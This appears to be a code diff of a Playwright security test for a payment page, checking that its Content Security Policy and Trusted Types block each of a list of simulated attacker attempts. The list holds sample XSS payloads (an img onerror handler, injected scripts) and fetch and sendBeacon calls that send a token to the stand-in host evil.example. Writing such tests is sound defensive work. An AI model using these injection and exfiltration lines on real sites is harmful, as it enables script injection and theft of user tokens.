@@ -1,178 +1,164 @@
-import type { Page } from "@playwright/test";
 import { expect, test } from "../../fixtures/fixtures.ts";
 import { mockedLink } from "../../mockGateway/mockedLink.ts";
-import { newPayment } from "../../mockGateway/mockedOrder.ts";
+import { newPayment } from "../../mockGateway/mockPayment.ts";
+import { visitPayment } from "../../screens/screen.ts";
 
 /** Attempts of an attacker inside the page, and the directive that stops each. */
 const breaches: readonly {
   readonly what: string;
   readonly directive: string;
-  readonly act: (page: Page) => Promise<unknown>;
+  /** Runs in the page. */
+  readonly act: () => unknown;
 }[] = [
   {
     what: "an inline script",
     directive: "require-trusted-types-for",
-    act: (page) =>
-      page.evaluate(() => {
-        const script = document.createElement("script");
-        script.append("document.title = 'broken'");
-        document.head.append(script);
-      }),
+    act: () => {
+      const script = document.createElement("script");
+      script.append("document.title = 'broken'");
+      document.head.append(script);
+    },
   },
   {
     what: "a script from another origin",
     directive: "require-trusted-types-for",
-    act: (page) =>
-      page.evaluate(() => {
-        document.createElement("script").src = "https://evil.example/x.js";
-      }),
+    act: () => {
+      document.createElement("script").src = "https://evil.example/x.js";
+    },
   },
   {
     what: "markup made from a string",
     directive: "require-trusted-types-for",
-    act: (page) =>
-      page.evaluate(() => {
-        document.createElement("div").innerHTML = "<img src=x onerror=\"document.title='broken'\">";
-      }),
+    act: () => {
+      document.createElement("div").innerHTML = "<img src=x onerror=\"document.title='broken'\">";
+    },
   },
   {
     what: "a Trusted Types policy that allows strings as markup",
     directive: "trusted-types",
-    act: (page) =>
-      page.evaluate(() => {
-        const types: unknown = Reflect.get(globalThis, "trustedTypes");
-        const make: unknown = Reflect.get(Object(types), "createPolicy");
-        if (typeof make === "function") Reflect.apply(make, types, ["own", {}]);
-      }),
+    act: () => {
+      const types: unknown = Reflect.get(globalThis, "trustedTypes");
+      const make: unknown = Reflect.get(Object(types), "createPolicy");
+      if (typeof make === "function") Reflect.apply(make, types, ["own", {}]);
+    },
   },
   {
     what: "a string that is run as code",
     directive: "require-trusted-types-for",
-    act: (page) =>
-      page.evaluate(() => {
-        // oxlint-disable-next-line typescript/no-implied-eval, no-implied-eval -- the test is about this call
-        setTimeout("document.title = 'broken'");
-      }),
+    act: () => {
+      // oxlint-disable-next-line typescript/no-implied-eval, no-implied-eval -- the test is about this call
+      setTimeout("document.title = 'broken'");
+    },
   },
   {
     what: "an event handler in an attribute",
     directive: "require-trusted-types-for",
-    act: (page) =>
-      page.evaluate(() => {
-        const button = document.createElement("button");
-        button.setAttribute("onclick", "document.title = 'broken'");
-        document.body.append(button);
-        button.click();
-      }),
+    act: () => {
+      const button = document.createElement("button");
+      button.setAttribute("onclick", "document.title = 'broken'");
+      document.body.append(button);
+      button.click();
+    },
   },
   {
     what: "a style in an attribute",
     directive: "style-src-attr",
-    act: (page) =>
-      page.evaluate(() => {
-        document.body.setAttribute("style", "outline: 7px solid red");
-      }),
+    act: () => {
+      document.body.setAttribute("style", "outline: 7px solid red");
+    },
   },
   {
     what: "an inline style sheet",
     directive: "style-src-elem",
-    act: (page) =>
-      page.evaluate(() => {
-        const style = document.createElement("style");
-        style.append("body { outline: 7px solid red }");
-        document.head.append(style);
-      }),
+    act: () => {
+      const style = document.createElement("style");
+      style.append("body { outline: 7px solid red }");
+      document.head.append(style);
+    },
   },
   {
     what: "a call to another origin",
     directive: "connect-src",
-    act: (page) => page.evaluate(() => fetch("https://evil.example/?token").catch(() => undefined)),
+    act: () => fetch("https://evil.example/?token").catch(() => undefined),
   },
   {
     what: "a beacon",
     directive: "connect-src",
-    act: (page) => page.evaluate(() => navigator.sendBeacon("https://evil.example/", "token")),
+    act: () => navigator.sendBeacon("https://evil.example/", "token"),
   },
   {
     what: "a picture from another origin",
     directive: "img-src",
-    act: (page) =>
-      page.evaluate(() => {
-        new Image().src = "https://evil.example/pixel.png";
-      }),
+    act: () => {
+      new Image().src = "https://evil.example/pixel.png";
+    },
   },
   {
     what: "a frame",
     directive: "frame-src",
-    act: (page) =>
-      page.evaluate(() => {
-        const frame = document.createElement("iframe");
-        frame.src = "https://evil.example/";
-        document.body.append(frame);
-      }),
+    act: () => {
+      const frame = document.createElement("iframe");
+      frame.src = "https://evil.example/";
+      document.body.append(frame);
+    },
   },
   {
     what: "an object",
     directive: "require-trusted-types-for",
-    act: (page) =>
-      page.evaluate(() => {
-        const object = document.createElement("object");
-        object.data = "https://evil.example/x.pdf";
-        document.body.append(object);
-      }),
+    act: () => {
+      const object = document.createElement("object");
+      object.data = "https://evil.example/x.pdf";
+      document.body.append(object);
+    },
   },
   {
     what: "another base URL",
     directive: "base-uri",
-    act: (page) =>
-      page.evaluate(() => {
-        const base = document.createElement("base");
-        base.href = "https://evil.example/";
-        document.head.append(base);
-      }),
+    act: () => {
+      const base = document.createElement("base");
+      base.href = "https://evil.example/";
+      document.head.append(base);
+    },
   },
   {
     what: "a worker",
     directive: "require-trusted-types-for",
-    act: (page) =>
-      page.evaluate(() => {
-        const address = URL.createObjectURL(new Blob(["postMessage(1)"]));
-        try {
-          // oxlint-disable-next-line no-new
-          new Worker(address);
-        } catch {
-          // Some attempts throw.
-        }
-      }),
+    act: () => {
+      const address = URL.createObjectURL(new Blob(["postMessage(1)"]));
+      try {
+        // oxlint-disable-next-line no-new
+        new Worker(address);
+      } catch {
+        // Some attempts throw.
+      }
+    },
   },
   {
     what: "a form for another origin",
     directive: "form-action",
-    act: (page) =>
-      page.evaluate(() => {
-        const form = document.createElement("form");
-        form.action = "https://evil.example/";
-        document.body.append(form);
-        form.submit();
-      }),
+    act: () => {
+      const form = document.createElement("form");
+      form.action = "https://evil.example/";
+      document.body.append(form);
+      form.submit();
+    },
   },
 ];
 
 test("the policy stops foreign code, loads and calls, and each attempt fails its test", async ({
   customer,
   faults,
-  gateway,
   page,
+  stage,
   webApp,
 }) => {
-  gateway.paymentPages(newPayment.offlineJpy().mock);
-  await customer.openLink(mockedLink(webApp.origin));
+  await visitPayment(stage);
   await expect(customer.button("Continue")).toBeVisible();
   const left: string[] = [];
   page.on("requestfinished", (request) => left.push(request.url()));
   for (const { what, directive, act } of breaches) {
     expect(faults.found, `before ${what}`).toEqual([]);
-    await act(page).catch(() => undefined);
+    await page.evaluate(act).catch(() => undefined);
     const breach = `the page's policy was broken: ${directive} `;
     await expect.poll(() => faults.found.join("\n"), what).toContain(breach);
     const { title, outline } = await page.evaluate(() => ({
@@ -203,8 +189,8 @@ test("the page may not be framed", async ({ page, webApp }) => {
 test("an opener sees that the page's window is closed, but cannot read or navigate it", async ({
   context,
   faults,
-  page,
   gateway,
+  page,
   webApp,
 }) => {
   gateway.paymentPages(newPayment.offlineJpy().mock);
